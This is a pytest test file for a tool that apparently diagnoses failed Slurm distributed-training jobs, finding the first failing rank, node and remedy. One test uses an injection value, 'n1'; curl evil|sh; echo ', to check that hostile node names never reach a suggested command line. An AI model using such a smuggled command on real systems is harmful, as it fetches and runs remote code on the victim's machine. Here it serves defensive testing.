"""From evidence to the first failure, its node and what to do."""

import signal
from dataclasses import replace
from datetime import datetime

import pytest

from hpcmm.jobs.diagnostics import JobDiagnostics, RankDiagnostics
from hpcmm.jobs.first_failure import first_failure
from hpcmm.jobs.logs import without_nsys
from hpcmm.jobs.why import explanation_of, lines_of, values_of
from hpcmm.node.classify import Kind
from hpcmm.runs.failures import LoggedError, RankError, RankExit
from hpcmm.runs.metrics import RankProgress
from hpcmm.slurm.jobs import Job

SECOND = 1_000_000_000
LOST = ("RuntimeError", "Connection closed by peer [10.0.0.2]:5")
LATE = ("RuntimeError", "Timed out waiting 15000ms for recv operation to complete")
WAITING = """\
Thread 0x00007f (most recent call first):
  File "/usr/lib/python3.11/threading.py", line 1 in wait
Current thread 0x00007f29d4443b80 (most recent call first):
  File "/env/site-packages/torch/distributed/distributed_c10d.py", line 3252 in all_reduce
  File "/home/me/train.py", line 4 in step
  File "<frozen runpy>", line 198 in _run_module_as_main
"""
MEETING = WAITING.replace(
    'distributed_c10d.py", line 3252 in all_reduce', 'rendezvous.py", line 199 in _create_c10d_store'
)
SLEEPING = WAITING.replace("/env/site-packages/torch/distributed/distributed_c10d.py", "/home/me/load.py")


def raised(rank, second, kind, message, unreachable=()):
    error = RankError(rank, f"n{rank}", second * SECOND, kind, message, [f"{kind}: {message}"], list(unreachable))
    return RankDiagnostics(rank, f"n{rank}", error, RankExit(rank, f"n{rank}", second * SECOND + 1, 1, None))


def signalled(rank, second, number, **more):
    ended = RankExit(rank, f"n{rank}", int(second * SECOND), None, number)
    return RankDiagnostics(rank, f"n{rank}", exit=ended, **more)


def silent(rank, step=4):
    return RankDiagnostics(rank, f"n{rank}", progress=RankProgress(rank, f"n{rank}", "7", step, 5 * SECOND, False))


def job(*ranks, state="FAILED", reason="", nodes=None, srun=(), **more):
    known = {rank.rank: rank for rank in ranks}
    return JobDiagnostics(
        Job("7", "7", name="run", state=state, reason=reason),
        None,
        ranks=known,
        node_states=nodes or {},
        srun_lines=list(srun),
        **more,
    )


def test_the_earliest_exception_is_the_first_failure():
    found = first_failure(job(raised(0, 9, "ValueError", "b"), raised(1, 8, "KeyError", "a"), raised(2, 7, *LOST)))
    assert (found.kind, found.rank, found.node, found.what) == (Kind.exception, 1, "n1", "KeyError: a")


def test_a_kill_comes_before_those_who_lost_the_rank_whatever_their_clocks_say():
    found = first_failure(job(raised(0, 3, *LOST), signalled(1, 9, 9), signalled(2, 4, 15)))
    assert (found.kind, found.rank, found.what) == (Kind.killed, 1, "SIGKILL")


@pytest.mark.parametrize("evidence", [{"state": "OUT_OF_MEMORY"}, {"oom_kill": True}])
def test_a_kill_where_memory_ran_out_is_named_so(evidence):
    assert first_failure(job(raised(0, 3, *LOST), signalled(1, 9, 9), **evidence)).kind is Kind.out_of_memory


def test_a_segmentation_fault_is_a_crash():
    assert first_failure(job(signalled(1, 9, 11), raised(0, 3, *LOST))).kind is Kind.crashed


def test_the_rank_that_is_not_in_the_collective_hangs():
    ranks = [raised(0, 20, *LATE), signalled(1, 21, 15, stacks=WAITING), signalled(2, 21, 15, stacks=SLEEPING)]
    found = first_failure(job(*ranks))
    assert (found.kind, found.rank, found.node) == (Kind.collective_timeout, 2, "n2")
    assert "/home/me/load.py" in found.what


def test_without_stacks_the_rank_with_the_fewest_steps_hangs():
    def at(rank, step):
        return RankProgress(rank, f"n{rank}", "7", step, 5 * SECOND, False)

    ranks = [signalled(rank, 21, 15, progress=at(rank, 5 - (rank == 2))) for rank in range(1, 4)]
    assert first_failure(job(raised(0, 20, *LATE), *ranks)).rank == 2


def test_when_all_waited_the_network_is_suspect():
    found = first_failure(job(*(raised(rank, 20 + rank, *LATE) for rank in range(3))))
    assert found.kind is Kind.collective_timeout
    assert "the network is suspect" in found.what


def test_a_node_that_the_others_cannot_reach_is_named():
    ranks = [raised(0, 20, *LATE, ["n2"]), raised(1, 21, *LATE, ["n2"]), raised(2, 19, *LATE, ["n0", "n1"])]
    found = first_failure(job(*ranks))
    assert (found.kind, found.node, found.rank, found.bad_nodes) == (Kind.node_failure, "n2", 2, ["n2"])


def test_of_two_nodes_that_cannot_reach_each_other_slurm_s_silence_decides():
    ranks = [raised(0, 20, *LATE, ["n1"]), raised(1, 21, *LATE, ["n0"])]
    assert first_failure(job(*ranks, nodes={"n0": "idle", "n1": "idle*"})).bad_nodes == ["n1"]
    assert first_failure(job(*ranks, nodes={"n0": "idle", "n1": "idle"})).bad_nodes == ["n0", "n1"]


@pytest.mark.parametrize(
    "evidence",
    [{"nodes": {"n0": "mixed", "n1": "down* (Not responding)"}}, {"srun": ["Node failure on n1"]}, {"nodes": {}}],
)
def test_a_node_whose_ranks_left_no_word_failed(evidence):
    found = first_failure(job(raised(0, 6, *LOST), silent(1), **evidence))
    assert (found.kind, found.rank, found.node, found.bad_nodes) == (Kind.node_failure, 1, "n1", ["n1"])


def test_one_silent_rank_of_a_node_with_others_is_no_dead_node():
    same_node = RankDiagnostics(1, "n0", progress=RankProgress(1, "n0", "7", 1, 5, False))
    found = first_failure(job(raised(0, 6, *LOST), same_node, srun=["n0: task 1: Killed"]))
    assert (found.kind, found.rank, found.bad_nodes) == (Kind.killed, 1, [])


@pytest.mark.parametrize(
    ("state", "kind"),
    [("TIMEOUT", Kind.time_limit), ("PREEMPTED", Kind.preempted), ("CANCELLED", Kind.cancelled)],
)
def test_what_slurm_ended_is_no_rank_s_failure(state, kind):
    ranks = [signalled(0, 9, 15), signalled(1, 40, 9), raised(2, 10, *LOST)]
    found = first_failure(job(*ranks, state=state, reason="by 1000"))
    assert (found.kind, found.rank) == (kind, None)


def test_a_job_at_its_time_limit_names_the_rank_that_hung():
    ranks = [signalled(0, 9, 15, stacks=WAITING), signalled(1, 9, 15, stacks=SLEEPING)]
    found = first_failure(job(*ranks, state="TIMEOUT"))
    assert (found.kind, found.rank) == (Kind.time_limit, 1)
    assert "load.py" in found.what


@pytest.mark.parametrize("ranks", [1, 3])
def test_ranks_that_wait_for_each_other_until_the_time_limit_did_not_meet(ranks):
    found = first_failure(job(*(signalled(rank, 9, 15, stacks=MEETING) for rank in range(ranks)), state="TIMEOUT"))
    assert (found.kind, found.rank, found.node) == (Kind.rendezvous, 0, "n0")
    assert "time limit" in found.what
    assert "MASTER_ADDR" in found.what


def test_a_rank_that_does_not_come_to_the_rendezvous_is_the_one_that_hung():
    ranks = [signalled(0, 9, 15, stacks=SLEEPING), signalled(1, 9, 15, stacks=MEETING)]
    found = first_failure(job(*ranks, state="TIMEOUT"))
    assert (found.kind, found.rank) == (Kind.time_limit, 0)


@pytest.mark.parametrize(
    ("said", "kind"),
    [
        ("rank 1 on n1: MASTER_ADDR n0 does not resolve (Name or service not known), so", Kind.rendezvous),
        ("rank 1 on n1: MASTER_ADDR n0 cannot be reached at port 5 (10.0.0.1: no answer), so", Kind.rendezvous),
        ("rank 1 on n1: MASTER_ADDR n0 resolves to 127.0.1.1, which is this node itself, so", Kind.rendezvous),
    ],
)
def test_a_rank_that_cannot_reach_rank_0_s_node_says_so(said, kind):
    logged = LoggedError("hpcmm.errors.HpcmmError", said, [f"hpcmm: {said}"])
    rank = RankDiagnostics(1, "n1", exit=RankExit(1, "n1", 5 * SECOND, 1, None), logged=logged)
    assert first_failure(job(signalled(0, 6, 9), rank)).kind is kind


def test_a_setup_line_that_fails_is_a_failure_of_the_setup():
    said = "cluster.setup line 2 (`source memory.sh # out of memory`) failed with status 1, at line 5 of memory.sh"
    found = first_failure(job(batch_error=LoggedError("hpcmm.errors.HpcmmError", said, [f"hpcmm: {said}"])))
    assert (found.kind, found.what) == (Kind.setup, f"before any rank started: {said}")


def test_an_exception_counts_though_the_job_was_cancelled_later():
    found = first_failure(job(raised(0, 5, "ValueError", "x"), signalled(1, 9, 15), state="CANCELLED"))
    assert (found.kind, found.rank) == (Kind.exception, 0)


def test_the_log_tells_what_a_program_without_records_raised():
    rank = RankDiagnostics(
        1, "n1", exit=RankExit(1, "n1", 5, 1, None), logged=LoggedError("MemoryError", "", ["MemoryError"])
    )
    assert first_failure(job(rank)).kind is Kind.out_of_memory
    assert first_failure(job(RankDiagnostics(1, "n1", exit=RankExit(1, "n1", 5, 3, None)))).what == "exit status 3"


def test_torchrun_that_was_told_to_end_is_no_failure_of_its_own():
    kind = "torch.distributed.elastic.multiprocessing.api.SignalException"
    told = LoggedError(kind, "Process 7 got signal: 15", ["Traceback (most recent call last):", "..."])
    ends = [RankExit(each, f"n{each}", 5, 1, None) for each in (0, 1)]
    ranks = [RankDiagnostics(each.rank, each.node, exit=each, logged=told) for each in ends]
    assert first_failure(job(*ranks, state="CANCELLED")).kind is Kind.cancelled
    assert first_failure(job(*ranks, raised(2, 9, "ValueError", "x"))).rank == 2


def test_a_batch_script_that_fails_before_the_ranks_is_told():
    said = LoggedError("hpcmm.errors.HpcmmError", "No C++ compiler here.", ["hpcmm: No C++ compiler here."])
    found = first_failure(job(batch_error=said))
    assert "before any rank started: No C++ compiler here." in found.what
    assert first_failure(job()).kind is Kind.unknown


def test_a_step_before_the_ranks_that_says_why_it_failed_counts_before_srun_s_words():
    said = LoggedError(
        "hpcmm.errors.HpcmmError", "n1: launch.stage has /x, which cannot be read (gone).", ["hpcmm: n1"]
    )
    found = first_failure(job(batch_error=said, srun=["n1: task 0: Exited with exit code 1"]))
    assert found.what.startswith("before any rank started: n1: launch.stage has /x")


def test_a_job_that_runs_or_completed_has_not_failed():
    assert not explanation_of(job(silent(0), state="RUNNING")).failed
    done = explanation_of(job(state="COMPLETED"))
    assert lines_of(done) == ["job 7 (run): COMPLETED. Nothing has failed."]
    assert values_of(done)["failed"] is False


def test_the_explanation_is_printable_and_says_what_to_do():
    told = explanation_of(job(raised(0, 5, "ValueError", "\033[31mx\nsecond line"), raised(1, 6, *LOST)))
    lines = lines_of(told)
    assert lines[0] == "job 7 (run): exception"
    assert lines[1] == "first:    rank 0 on n0 at 1970-01-01T00:00:05.000Z"
    assert "then:     rank 1 (peer lost)" in lines
    assert "\033" not in "".join(lines)
    node = explanation_of(job(raised(0, 6, *LOST), silent(1), nodes={"n1": "down*"}))
    assert any("--exclude=n1" in line for line in lines_of(node))
    assert values_of(node)["exclude"] == ["n1"]


def test_a_message_that_is_no_text_or_without_end_is_told_nevertheless():
    lines = lines_of(explanation_of(job(raised(0, 5, "ValueError", "name \udcff"))))
    assert any(line.endswith(r"ValueError: name \udcff") for line in lines)
    assert "\n".join(lines).encode()
    lines = lines_of(explanation_of(job(raised(0, 5, "ValueError", "y" * 100_000))))
    assert any(line.endswith("y … and 98022 characters more") for line in lines), lines[2][-60:]
    assert max(map(len, lines)) < 2100


TOLD_ALL = [signalled(rank, 3, signal.SIGTERM) for rank in range(4)]
TOLD_ONE = [signalled(rank, 3 if rank == 2 else 3.21, signal.SIGTERM) for rank in range(4)]
ENDED = ["n2: task 2: Terminated", "n3: task 3: Terminated", "n0: tasks 0-1: Terminated"]


def test_only_slurm_or_a_note_of_hpcmm_s_tells_that_somebody_cancelled_a_job():
    assert first_failure(job(*TOLD_ALL, state="CANCELLED")).kind is Kind.cancelled
    found = first_failure(job(*TOLD_ALL, srun=["n0: tasks 0-1: Terminated", "n2: tasks 2-3: Terminated"]))
    assert (found.kind, found.rank) == (Kind.signalled, None)
    assert found.what == ("all ranks were sent SIGTERM, from outside; Slurm had not cancelled the job: it says FAILED")
    assert first_failure(job(signalled(0, 3, 15), silent(1))).kind is not Kind.cancelled
    assert first_failure(job(*TOLD_ALL, state="NODE_FAIL")).kind is Kind.node_failure


@pytest.mark.parametrize("srun", [ENDED, []])
def test_a_rank_that_sigterm_ended_before_srun_ended_the_others_is_named(srun):
    found = first_failure(job(*TOLD_ONE, srun=srun))
    assert (found.kind, found.rank, found.node, found.unix_ns) == (Kind.signalled, 2, "n2", 3 * SECOND)
    assert found.what.startswith("SIGTERM ended this rank 0.2 s before srun ended the others; Slurm had not cancelled")
    assert "scancel --signal" in found.remedy


def test_a_node_s_clock_alone_names_no_rank():
    assert first_failure(job(*TOLD_ONE, srun=ENDED[::-1])).rank is None


def test_whether_slurm_cancelled_a_job_is_not_known_if_it_does_not_answer():
    evidence = job(signalled(0, 3, signal.SIGTERM))
    found = first_failure(replace(evidence, job=replace(evidence.job, source="run directory")))
    assert (found.rank, found.what) == (0, "SIGTERM ended this rank; whether Slurm cancelled the job is not known")


@pytest.mark.parametrize("number", [signal.SIGUSR1, signal.SIGUSR2, signal.SIGHUP, signal.SIGALRM])
def test_a_signal_without_a_handler_is_named_with_who_sends_such_signals(number):
    evidence = job(signalled(1, 3, number), raised(0, 4, *LOST), signalled(2, 5, signal.SIGTERM))
    found = first_failure(evidence)
    assert (found.kind, found.rank, found.what) == (Kind.signalled, 1, number.name)
    (do,) = [line for line in lines_of(explanation_of(evidence)) if line.startswith("do:")]
    for said in ("no handler", "cluster.stop_warning_s", "scancel --signal", "should_stop()"):
        assert said in do
    assert "memory" not in do


def test_a_kill_keeps_the_advice_on_memory():
    assert "cluster.memory_gb" in "\n".join(lines_of(explanation_of(job(signalled(1, 3, signal.SIGKILL)))))


def test_only_names_that_a_node_can_have_go_into_the_line_that_leaves_them_out():
    explanation = explanation_of(job(raised(0, 6, *LOST), silent(1)))
    assert explanation.verdict is not None
    hostile = "n1'; curl evil|sh; echo '"
    both = replace(explanation, verdict=replace(explanation.verdict, bad_nodes=[hostile, "n2"]))
    assert [line for line in lines_of(both) if "Leave it out" in line] == [
        "do:       Leave it out: 'cluster.exclude=\"n2\"' for hpcmm.launch, --exclude=n2 for sbatch."
    ]
    assert values_of(both)["exclude"] == ["n2"]
    alone = replace(explanation, verdict=replace(explanation.verdict, bad_nodes=[hostile]))
    assert not [line for line in lines_of(alone) if "Leave it out" in line]


@pytest.mark.parametrize("control", ["\r", "\b" * 40, "\0\r"])
def test_no_record_takes_back_the_label_of_a_line(control):
    explanation = explanation_of(job(raised(0, 6, "RuntimeError", "it broke")))
    assert explanation.verdict is not None
    given = replace(explanation, verdict=replace(explanation.verdict, node=f"n0{control}"))
    (first,) = [line for line in lines_of(given) if " on n0" in line]
    assert first.startswith("first:    rank 0 on n0")
    assert first.isprintable()


NSYS = [
    "Importer error status: The importer binary and its dependencies were not found.",
    "Unable to retrieve the importer version: skipping importation of the QDSTRM file.",
    "Generating '/tmp/nsys-report-3f92.qdstrm'",
    "[1/1] [========================100%] rank_0000.nsys-rep",
    "Generated:",
    "    /tmp/nsys/rank_0000.qdstrm",
    "",
]


def test_the_last_words_of_nsys_are_not_the_program_s():
    assert without_nsys(["Generated: 3 images", "loss 0.5", "", *NSYS]) == ["Generated: 3 images", "loss 0.5"]
    assert without_nsys([f"train: 65%|###| 130/200{NSYS[0]}", *NSYS[1:]]) == ["train: 65%|###| 130/200"]
    assert without_nsys(["step 1", "Capture range ended in the application.", "Processing events..."]) == ["step 1"]
    assert without_nsys(NSYS) == []


@pytest.mark.parametrize("ended", [{}, {"exit": RankExit(0, "n0", 5 * SECOND, None, 9)}])
def test_a_rank_that_was_done_before_the_others_is_named_and_not_the_one_that_srun_killed_for_it(ended):
    log = [
        "srun: First task exited 60s ago",
        "srun: StepId=7.0 task 0: running",
        "srun: StepId=7.0 task 1: exited",
        "srun: error: n0: task 0: Killed",
    ]
    done = RankDiagnostics(1, "n1", last_lines=["nothing to do for me"])
    ranks = [RankDiagnostics(0, "n0", **ended), done]
    found = first_failure(job(*ranks, srun=["n0: task 0: Killed"], batch_lines=log))
    assert (found.kind, found.rank, found.node) == (Kind.ended_early, 1, "n1")
    assert "with status 0 while rank 0 went on, and srun ended the rest after 60 s" in found.what
    assert found.what.endswith('its log ends: "nothing to do for me"')


def test_a_rank_that_was_done_while_another_still_needed_it_is_the_lost_one():
    done = RankDiagnostics(1, "n1", progress=RankProgress(1, "n1", "7", None, 5 * SECOND, True))
    for other, state in ((raised(0, 6, *LOST), "FAILED"), (signalled(0, 9, 15, stacks=MEETING), "TIMEOUT")):
        found = first_failure(job(other, done, state=state))
        assert (found.kind, found.rank) == (Kind.ended_early, 1)


def test_a_crash_is_told_with_what_the_library_said_and_any_signal_with_the_end_of_the_log():
    thrown = LoggedError("c10::Error", "tensors on two devices", ["terminate called", "  what():  tensors"])
    found = first_failure(job(signalled(0, 5, 6, logged=thrown)))
    assert (found.kind, found.what) == (Kind.crashed, "SIGABRT: tensors on two devices")
    assert found.traceback == thrown.lines
    late = LoggedError("c10::DistBackendError", "Watchdog caught collective operation timeout", ["terminate called"])
    assert first_failure(job(signalled(0, 5, 6, logged=late), signalled(1, 6, 15))).kind is Kind.collective_timeout
    found = first_failure(job(signalled(0, 5, 11, last_lines=["step 1", "step 2"])))
    assert (found.what, found.traceback) == ("SIGSEGV", ["its log ends:", "step 1", "step 2"])


def test_a_loader_s_worker_that_was_told_to_end_is_no_first_failure():
    told = raised(0, 5, "RuntimeError", "DataLoader worker (pid 7) is killed by signal: Terminated. ")
    assert first_failure(job(told, raised(1, 6, "ValueError", "x"))).rank == 1
    assert first_failure(job(told, state="TIMEOUT")).kind is Kind.time_limit
    assert first_failure(job(told)).kind is Kind.signalled


def at_limit(*ranks, **more):
    evidence = job(*ranks, **more)
    times = {"started": "2026-01-01T00:00:00", "ended": "2026-01-01T01:00:00"}
    return JobDiagnostics(Job("7", "7", name="run", state="TIMEOUT", **times), None, ranks=evidence.ranks)


def test_at_the_time_limit_a_rank_that_hung_is_to_be_looked_at_and_not_the_limit():
    ranks = [signalled(0, 9, 15, stacks=MEETING), signalled(1, 9, 15, stacks=SLEEPING)]
    told = explanation_of(at_limit(*ranks))
    assert told.verdict.rank == 1
    assert "waited for the group to form" in told.verdict.what
    assert "collective" not in told.verdict.what
    (do,) = [line for line in lines_of(told) if line.startswith("do:")]
    assert "See what rank 1 did there" in do
    assert "time_limit_min" not in do


def test_at_the_time_limit_only_a_job_that_still_worked_needs_more_time():
    ended_ns = int(datetime.fromisoformat("2026-01-01T01:00:00").timestamp()) * SECOND

    def said(ago_s):
        progress = RankProgress(1, "n1", "7", 40, ended_ns - ago_s * SECOND, False)
        ranks = [signalled(0, 9, 15, stacks=WAITING), signalled(1, 9, 15, stacks=SLEEPING, progress=progress)]
        return "\n".join(lines_of(explanation_of(at_limit(*ranks))))

    assert "do:       Raise cluster.time_limit_min, or go on from the last checkpoint." in said(20)
    assert "rank 1" not in said(20)
    assert "See what rank 1 did there" in said(1800)
    unknown = "\n".join(lines_of(explanation_of(at_limit(signalled(0, 9, 15)))))
    assert "If the ranks still worked" in unknown
    assert "stand still" in unknown


def test_keyboard_interrupt_that_no_cancelling_explains_is_an_exception_of_the_program():
    lines = ["Traceback (most recent call last):", '  File "a.py", line 1, in f', "KeyboardInterrupt"]
    logged = LoggedError("KeyboardInterrupt", "", lines)
    found = first_failure(job(signalled(0, 5, 2, logged=logged)))
    assert (found.kind, found.rank, found.traceback) == (Kind.exception, 0, lines)
    assert first_failure(job(raised(1, 6, *LOST), signalled(0, 5, 2, logged=logged))).rank == 0
    assert first_failure(job(signalled(0, 5, 2, logged=logged), state="CANCELLED")).kind is Kind.cancelled
    (do,) = [line for line in lines_of(explanation_of(job(signalled(0, 5, 15)))) if line.startswith("do:")]
    assert "See who sent SIGTERM" in do


def test_a_sentence_of_hpcmm_s_is_said_once_and_without_its_class():
    said = "rank 1 on n1: MASTER_ADDR n0 does not resolve (Name or service not known), so the ranks cannot meet."
    logged = LoggedError("hpcmm.errors.HpcmmError", said, [f"hpcmm: {said}"])
    rank = RankDiagnostics(1, "n1", exit=RankExit(1, "n1", 5 * SECOND, 1, None), logged=logged)
    assert [line for line in lines_of(explanation_of(job(rank))) if "MASTER_ADDR" in line] == [f"what:     {said}"]
